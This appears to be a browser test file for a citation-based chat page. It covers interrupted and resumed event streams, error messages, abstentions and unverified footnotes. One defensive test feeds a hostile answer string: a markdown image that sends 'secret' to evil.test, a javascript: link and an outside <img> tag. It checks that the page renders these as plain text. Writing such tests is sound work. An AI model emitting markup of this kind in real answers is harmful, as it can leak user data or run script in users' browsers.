"""What the chat page makes of streams that a real server seldom sends: broken, hostile, unsupported, stopped.

The page's own files run in a real browser; the server's side is scripted, because none can be asked to misbehave.
"""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect, sync_playwright

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed (Debian: chromium)"),
]

STATIC = Path(__file__).parents[2] / "api" / "static"
ORIGIN = "http://footnote.test"
TYPES = {".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml"}
POLICY = "default-src 'self'; img-src 'self' blob:; object-src 'none'; base-uri 'none'; form-action 'self'"
ANSWER = "01900000-0000-7000-8000-000000000001"
CONVERSATION = "01900000-0000-7000-8000-000000000002"
ARGUMENTS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking"]

Event = tuple[str, dict[str, Any]]


def citation(n: int, *, verified: bool = True) -> Event:
    return "citation", {
        "n": n,
        "document": ANSWER,
        "version": ANSWER,
        "chunk": ANSWER,
        "name": "handbook/travel-policy.docx",
        "title": "Travel policy",
        "page": None,
        "span": [0, 5],
        "boxes": [],
        "quote": "Second class is the rule.",
        "hash": "0" * 64,
        "verified": verified,
    }


def lines(events: list[Event], *, first: int = 1) -> str:
    return "".join(
        f"id: {number}\nevent: {kind}\ndata: {json.dumps(data)}\n\n"
        for number, (kind, data) in enumerate(events, first)
    )


class Script:
    """The server's side: what /v1/chat and the resumed stream send, and what was asked."""

    def __init__(self) -> None:
        self.chat = ""
        self.resumed = ""
        self.requests: list[Request] = []

    def handle(self, route: Route) -> None:
        request = route.request
        path = urlsplit(request.url).path
        self.requests.append(request)
        if not request.url.startswith(ORIGIN + "/"):
            route.abort()
        elif path == "/" or path.startswith("/static/"):
            file = STATIC / ("index.html" if path == "/" else path.removeprefix("/static/"))
            headers = {"Content-Security-Policy": POLICY, "Content-Type": TYPES[file.suffix]}
            route.fulfill(body=file.read_bytes(), headers=headers)
        elif path == "/v1/chat":
            route.fulfill(body=self.chat, headers={"Content-Type": "text/event-stream", "X-Footnote-Answer": ANSWER})
        elif path == f"/v1/answers/{ANSWER}/events":
            route.fulfill(body=self.resumed, headers={"Content-Type": "text/event-stream"})
        else:
            answers: dict[str, Any] = {
                "/v1/session": {"user": "alice", "role": "reader", "csrf": "token"},
                "/v1/conversations": {"conversations": []},
                "/v1/documents": {"documents": [], "next": None},
            }
            route.fulfill(json=answers.get(path, {}), status=200 if path in answers else 404)

    def sent_to(self, path: str) -> list[Request]:
        return [request for request in self.requests if urlsplit(request.url).path == path]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def script() -> Script:
    return Script()


@pytest.fixture
def page(browser: Browser, script: Script) -> Iterator[Page]:
    context = browser.new_context()
    context.route("**/*", script.handle)
    page = context.new_page()
    page.goto(ORIGIN + "/")
    page.locator(".empty-state").wait_for()
    yield page
    context.close()


def ask(page: Page) -> None:
    page.locator("#question").fill("Which class?")
    page.keyboard.press("Enter")


def test_a_broken_stream_goes_on_after_the_last_event_that_arrived(page: Page, script: Script) -> None:
    events: list[Event] = [
        ("retrieval", {}),
        citation(1),
        ("delta", {"text": "Second class "}),
        ("delta", {"text": "is the rule.[1]"}),
        ("done", {"abstained": False}),
    ]
    script.chat = lines(events[:3])
    script.resumed = lines(events[3:], first=4)
    ask(page)
    expect(page.locator(".turn")).not_to_have_attribute("aria-busy", "true")
    expect(page.locator(".answer")).to_have_text("Second class is the rule.1")
    [resumed] = script.sent_to(f"/v1/answers/{ANSWER}/events")
    assert resumed.headers["last-event-id"] == "3"
    [asked] = script.sent_to("/v1/chat")
    assert asked.headers["x-csrf-token"] == "token"


def test_a_log_that_cannot_be_read_just_now_ends_the_connection_and_not_the_answer(page: Page, script: Script) -> None:
    away = 'event: error\ndata: {"code": "unavailable", "detail": "The catalogue is busy."}\n\n'
    script.chat = lines([("retrieval", {}), ("delta", {"text": "Second class "})]) + away
    script.resumed = lines([("delta", {"text": "is the rule."}), ("done", {"abstained": False})], first=3)
    ask(page)
    expect(page.locator(".turn")).not_to_have_attribute("aria-busy", "true")
    expect(page.locator(".answer")).to_have_text("Second class is the rule.")
    expect(page.locator(".note")).to_have_count(0)
    [resumed] = script.sent_to(f"/v1/answers/{ANSWER}/events")
    assert resumed.headers["last-event-id"] == "2"


@pytest.mark.parametrize("numbered", [True, False])
def test_an_error_that_ends_the_answer_is_not_waited_out(page: Page, script: Script, *, numbered: bool) -> None:
    error: Event = (
        "error",
        {"code": "unavailable" if numbered else "interrupted", "detail": "It ended.", "retryable": True},
    )
    script.chat = lines([("retrieval", {}), error])
    if not numbered:
        script.chat = script.chat.replace("id: 2\n", "")
    ask(page)
    expect(page.locator(".note")).to_contain_text("It ended.")
    assert script.sent_to(f"/v1/answers/{ANSWER}/events") == []


def test_markup_and_links_of_a_hostile_answer_stay_plain_text(page: Page, script: Script) -> None:
    hostile = "![x](https://evil.test/?q=secret) [click](javascript:alert(1)) <img src=https://evil.test/a> **bold**"
    script.chat = lines([("delta", {"text": hostile}), ("done", {"abstained": False})])
    ask(page)
    expect(page.locator(".answer strong")).to_have_text("bold")
    assert hostile.replace("**", "") == page.locator(".answer").inner_text().strip()
    assert page.locator(".answer :is(a, img, iframe, script)").count() == 0
    assert all(request.url.startswith(ORIGIN + "/") for request in script.requests)


def test_unsupported_sentences_and_unverified_footnotes_look_different(page: Page, script: Script) -> None:
    text = "The rule is 😀 second class.[1] Cats travel free.[2] [?]"
    sentence = "Cats travel free.[2] [?]"
    warning = {"type": "unsupported_sentence", "start": text.index(sentence), "end": len(text)}
    events = [citation(1), citation(2, verified=False), ("delta", {"text": text}), ("warning", warning)]
    script.chat = lines([*events, ("done", {"abstained": False})])
    ask(page)
    expect(page.locator(".note")).to_contain_text("not supported")
    expect(page.locator(".answer mark.unsupported")).to_have_text("Cats travel free.")
    expect(page.locator(".answer button.unverified")).to_have_text("2")
    expect(page.locator(".source .tag")).to_have_text("Not verified")


def test_an_abstention_says_i_dont_know_and_shows_no_source(page: Page, script: Script) -> None:
    script.chat = lines([("done", {"abstained": True, "citations": []})])
    ask(page)
    expect(page.locator(".unknown")).to_contain_text("None of the documents that you may read")
    expect(page.locator(".source")).to_have_count(0)


def test_an_error_is_told_in_a_sentence_and_can_be_asked_again(page: Page, script: Script) -> None:
    script.chat = lines([("error", {"code": "model_unavailable", "detail": "The model did not answer."})])
    ask(page)
    expect(page.locator(".note")).to_contain_text("The model did not answer.")
    script.chat = lines([("delta", {"text": "Second class."}), ("done", {"abstained": False})])
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator(".turn").last.locator(".answer")).to_have_text("Second class.")


def test_a_reader_is_offered_no_upload_and_no_deletion(page: Page) -> None:
    page.locator("#documents-link").click()
    expect(page.locator("#documents")).to_contain_text("ask an administrator for the editor role")
    expect(page.locator("#files")).to_have_count(0)


def test_a_question_asked_before_the_examples_have_arrived_keeps_its_answer(browser: Browser, script: Script) -> None:
    late: list[Route] = []
    context = browser.new_context()
    context.route("**/*", script.handle)
    context.route("**/v1/documents?*", lambda route: late.append(route))  # noqa: PLW0108 - it inspects what it is given
    page = context.new_page()
    with page.expect_request("**/v1/documents?*"):
        page.goto(ORIGIN + "/")
    script.chat = lines([("delta", {"text": "Second class."}), ("done", {"abstained": False})])
    ask(page)
    expect(page.locator(".answer")).to_have_text("Second class.")
    with page.expect_response("**/v1/documents?*"):
        late[0].fulfill(json={"documents": [], "next": None})
    page.evaluate("() => new Promise(requestAnimationFrame)")
    expect(page.locator(".answer")).to_have_text("Second class.")
    expect(page.locator(".empty-state")).to_have_count(0)
    context.close()
